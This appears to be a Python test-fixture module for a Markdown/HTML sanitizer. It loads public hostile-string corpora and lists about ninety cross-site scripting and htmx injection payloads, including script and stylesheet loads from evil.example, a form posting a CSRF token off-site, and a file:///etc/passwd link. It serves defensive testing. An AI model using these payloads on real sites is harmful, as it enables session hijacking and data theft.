"""Hostile and awkward texts: two public collections, and our own list of attacks on a page."""

from __future__ import annotations

import json
import re
from pathlib import Path

HERE = Path(__file__).parent
EXAMPLE = re.compile(r"`{32} example\n(.*?)\n?\.\n.*?`{32}", re.DOTALL)


def naughty_strings() -> list[str]:
    strings: list[str] = json.loads((HERE / "naughty-strings.json").read_text("utf-8"))
    return strings


def commonmark_examples() -> list[str]:
    text = (HERE / "commonmark-spec.txt").read_text("utf-8")
    return [example.replace("→", "\t") for example in EXAMPLE.findall(text)]


ATTACKS = [
    # Elements that run, load or cover something.
    "<script>window.__pwn=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0bsrc=x>",
    "<img src=x onerror=window.__pwn=1>",
    '<img src="x" onerror="window.__pwn=1"//',
    "<svg onload=window.__pwn=1>",
    "<svg><script>window.__pwn=1</script></svg>",
    "<svg><a xlink:href='javascript:window.__pwn=1'><text>x</text></a></svg>",
    "<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:window.__pwn=1'>x",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwn=1>",
    "<iframe src=javascript:window.__pwn=1></iframe>",
    "<iframe srcdoc='&lt;script&gt;window.__pwn=1&lt;/script&gt;'></iframe>",
    "<object data=javascript:window.__pwn=1></object>",
    "<embed src=javascript:window.__pwn=1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><input name=csrf_token></form>",
    "<button formaction=javascript:window.__pwn=1>x</button>",
    "<input autofocus onfocus=window.__pwn=1>",
    "<details open ontoggle=window.__pwn=1>",
    "<video><source onerror=window.__pwn=1></video>",
    "<audio src=x onerror=window.__pwn=1>",
    "<body onload=window.__pwn=1>",
    "<marquee onstart=window.__pwn=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'>",
    "<template><script>window.__pwn=1</script></template>",
    "<textarea></textarea><script>window.__pwn=1</script>",
    "<title></title><img src=x onerror=window.__pwn=1>",
    "<xmp></xmp><script>window.__pwn=1</script>",
    "<!--><script>window.__pwn=1</script>-->",
    "<![CDATA[<script>window.__pwn=1</script>]]>",
    "<?xml version='1.0'?><script>window.__pwn=1</script>",
    "<a href='https://x' style='position:fixed;inset:0'>x</a>",
    # What htmx would act upon.
    "<div hx-get=/en/moderation/queue hx-trigger=load></div>",
    "<div data-hx-post=/en/logout data-hx-trigger=load></div>",
    "<p hx-on:load='window.__pwn=1'>x</p>",
    "<p hx-swap-oob=true id=main>x</p>",
    "<hx-partial hx-target=#main>x</hx-partial>",
    "<img name=csrf_token><form id=reply-form>",
    # Links that are not links.
    "[x](javascript:window.__pwn=1)",
    "[x](JaVaScRiPt:window.__pwn=1)",
    "[x](java\tscript:window.__pwn=1)",
    "[x](<java\nscript:window.__pwn=1>)",
    "[x](&#106;avascript:window.__pwn=1)",
    "[x](javascript&colon;window.__pwn=1)",
    "[x](%6aavascript:window.__pwn=1)",
    "[x](\x01javascript:window.__pwn=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:window.__pwn=1)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    "[x](intent://x#Intent;scheme=javascript;end)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https://x\" onmouseover=\"window.__pwn=1)",
    "[x](https://x 'a\" onmouseover=\"window.__pwn=1')",
    "[x](https://x \"'><script>window.__pwn=1</script>\")",
    "<javascript:window.__pwn=1>",
    "<https://x/\"onmouseover=window.__pwn=1>",
    "[a]\n\n[a]: javascript:window.__pwn=1",
    "[a]\n\n[a]: https://x '\" onclick=window.__pwn=1'",
    "![x](javascript:window.__pwn=1)",
    "![\"onerror=window.__pwn=1](x)",
    "![x](https://evil.example/seen.gif)",
    "![x](//evil.example/seen.gif)",
    "![x](data:image/svg+xml,<svg onload=window.__pwn=1>)",
    "[![x](javascript:window.__pwn=1)](javascript:window.__pwn=1)",
    # Ways around: other features, other encodings, texts that change when read twice.
    "`<script>window.__pwn=1</script>`",
    "```\"><script>window.__pwn=1</script>\nx\n```",
    "```html onclick=window.__pwn=1\n<b>x</b>\n```",
    "| <script>window.__pwn=1</script> |\n|:-:\" onclick=window.__pwn=1|\n| x |",
    "[^\"><script>window.__pwn=1</script>]\n\n[^\"><script>window.__pwn=1</script>]: note",
    "- [x] <img src=x onerror=window.__pwn=1>",
    "- [x](javascript:window.__pwn=1)",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwn=1&#60;/script&#62;",
    "＜script＞window.__pwn=1＜/script＞",
    "\u2028<script>window.__pwn=1</script>\u2029",
    "<scr\x00ipt>window.__pwn=1</scr\x00ipt>",
    "<scr<script>ipt>window.__pwn=1</scr</script>ipt>",
    "<a href=\"https://x\"><a href='javascript:window.__pwn=1'>x</a></a>",
    "https://x/<script>window.__pwn=1</script>",
    "www.x.example/\"onmouseover=\"window.__pwn=1",
    "{{ config }}{% raw %}<script>window.__pwn=1</script>",
    "# <script>window.__pwn=1</script>",
    "> <script>window.__pwn=1</script>",
]  # fmt: skip
